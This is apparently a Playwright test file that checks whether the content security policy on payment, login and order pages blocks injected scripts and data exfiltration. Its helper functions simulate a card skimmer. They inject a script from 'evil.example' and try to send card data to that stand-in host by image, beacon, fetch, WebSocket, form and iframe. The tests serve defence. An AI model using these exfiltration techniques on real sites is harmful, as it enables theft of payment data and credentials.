import { chromium, type Page, type Request } from '@playwright/test';
import { database } from '../books.ts';
import { startEdge, type Edge } from '../edge/start-edge.ts';
import { expect, test } from '../fixtures.ts';
import { OUR_CHROMIUM } from '../our-chromium.ts';

const ONCE = { tag: '@pc' };

let edge: Edge;
test.beforeAll(async () => {
  edge = await startEdge('https');
});
test.afterAll(() => edge.stop());

/** The browser itself sends reports: the first flag makes it accept our certificate, the second avoids its delay of a minute. */
const REPORTING = ['--ignore-certificate-errors', '--short-reporting-delay'];

async function visit(look: (page: Page) => Promise<void>): Promise<void> {
  const browser = await chromium.launch({ ...OUR_CHROMIUM, args: [...OUR_CHROMIUM.args, ...REPORTING] });
  try {
    // A normal browser has this permission by default; without it no report is sent.
    const context = await browser.newContext({ permissions: ['background-sync'] });
    await look(await context.newPage());
  } finally {
    await browser.close();
  }
}

interface StoredViolation {
  readonly blocked: string;
  readonly directive: string;
}

/** The violations of a page's content security policy that browsers have reported. */
async function violationsOf(page: string): Promise<StoredViolation[]> {
  return database()<StoredViolation[]>`
    select distinct body->>'blocked' as blocked, body->>'directive' as directive from telemetry_records
    where name = 'csp-violation' and body->>'page' = ${page} order by 1`;
}

/** Runs in the page: adds what an attacker would inject. */
function plant(foreign: string): void {
  const inline = document.createElement('script');
  inline.textContent = 'globalThis.planted = "inline"';
  const script = document.createElement('script');
  script.src = foreign;
  const button = document.createElement('button');
  button.setAttribute('onclick', 'globalThis.planted = "attribute"');
  document.body.append(inline, script, button);
  button.click();
}

for (const path of ['/pay', '/login']) {
  test(`an injected script does not run on ${path}, and the browser reports it`, ONCE, async () => {
    const foreign = `${edge.url.replace('127.0.0.1', 'evil.example')}/skim.js`;
    await visit(async (page) => {
      await page.goto(`${edge.url}${path}?session_key=nobodys`);
      await page.evaluate(plant, `${foreign}?stolen=1`);
      expect(await page.evaluate(() => (globalThis as { planted?: string }).planted)).toBeUndefined();
      await expect(async () => {
        expect(await violationsOf(`${edge.url}${path}`)).toEqual([
          { blocked: foreign, directive: 'script-src-elem' },
          { blocked: 'inline', directive: 'script-src-attr' },
          { blocked: 'inline', directive: 'script-src-elem' },
        ]);
      }).toPass({ timeout: 20_000 });
    });
  });
}

/** Runs in the page: tries the ways in which an injected script could send card data out. Returns the directives that block. */
async function carryOut(foreign: string): Promise<string[]> {
  const blocked: string[] = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
    blocked.push(effectiveDirective),
  );
  new Image().src = `${foreign}/pixel?card=1`;
  navigator.sendBeacon(`${foreign}/beacon`, 'card');
  await fetch(`${foreign}/fetch`, { mode: 'no-cors' }).catch(() => {});
  const socket = new WebSocket(`${foreign.replace('https', 'wss')}/socket`);
  socket.addEventListener('open', () => blocked.push('opened'));
  const form = document.createElement('form');
  form.action = `${foreign}/form`;
  form.target = 'nowhere';
  const frame = document.createElement('iframe');
  frame.src = `${foreign}/frame`;
  document.body.append(form, frame);
  form.submit();
  await new Promise((resolve) => setTimeout(resolve, 1_000));
  return blocked.toSorted();
}

/** The directives that block. On pay pages frames and forms to any https host are allowed, as any bank may check its payer. */
const CARRIED_OUT = [
  ['/pay', ['connect-src', 'connect-src', 'connect-src', 'img-src']],
  ['/pay-step', ['connect-src', 'connect-src', 'connect-src', 'img-src']],
  ['/login', ['connect-src', 'connect-src', 'connect-src', 'form-action', 'frame-src', 'img-src']],
  ['/share.html', ['connect-src', 'connect-src', 'connect-src', 'form-action', 'frame-src', 'img-src']],
  ['/order', ['connect-src', 'connect-src', 'connect-src', 'form-action', 'frame-src', 'img-src']],
  ['/receipt', ['connect-src', 'connect-src', 'connect-src', 'form-action', 'frame-src', 'img-src']],
] as const;

for (const [path, directives] of CARRIED_OUT) {
  test(`on ${path} data of an injected script is blocked by ${directives.join(', ')}`, ONCE, async () => {
    await visit(async (page) => {
      const left: Request[] = [];
      page.on('request', (request) => {
        if (new URL(request.url()).hostname === 'evil.example') left.push(request);
      });
      await page.goto(`${edge.url}${path}`, { waitUntil: 'networkidle' });
      expect(await page.evaluate(carryOut, 'https://evil.example')).toEqual(directives);
      // The browser lists even requests that it blocked itself.
      const gone = left
        .filter((request) => request.failure()?.errorText !== 'csp')
        .map((request) => request.resourceType());
      expect(gone.filter((type) => type !== 'document')).toEqual([]);
    });
  });
}

test('avatars load from the configured image hosts only', ONCE, async () => {
  const faces = await startEdge('https', { IMAGE_ORIGINS: 'https://faces.example' });
  try {
    await visit(async (page) => {
      await page.route('https://faces.example/**', (route) =>
        route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' }),
      );
      await page.goto(`${faces.url}/pay`);
      const load = (url: string) =>
        page.evaluate(
          (src) =>
            new Promise((resolve) => {
              const image = new Image();
              image.addEventListener('load', () => resolve('shown'));
              image.addEventListener('error', () => resolve('blocked'));
              image.src = src;
            }),
          url,
        );
      expect(await load('https://faces.example/a.svg')).toBe('shown');
      expect(await load('https://faces.example.evil.example/a.svg')).toBe('blocked');
    });
  } finally {
    await faces.stop();
  }
});

test('the pages load without violating their own content security policy', ONCE, async () => {
  const complaints: string[] = [];
  await visit(async (page) => {
    page.on('console', (message) => {
      if (message.type() === 'error') complaints.push(`${page.url()} ${message.text()}`);
    });
    for (const path of [
      '/',
      '/pay',
      '/recharge-list',
      '/pay-step',
      '/login',
      '/fines',
      '/feedback',
      '/share.html',
      '/receipt',
      '/order',
    ])
      await page.goto(`${edge.url}${path}`, { waitUntil: 'networkidle' });
  });
  expect(complaints).toEqual([]);
});
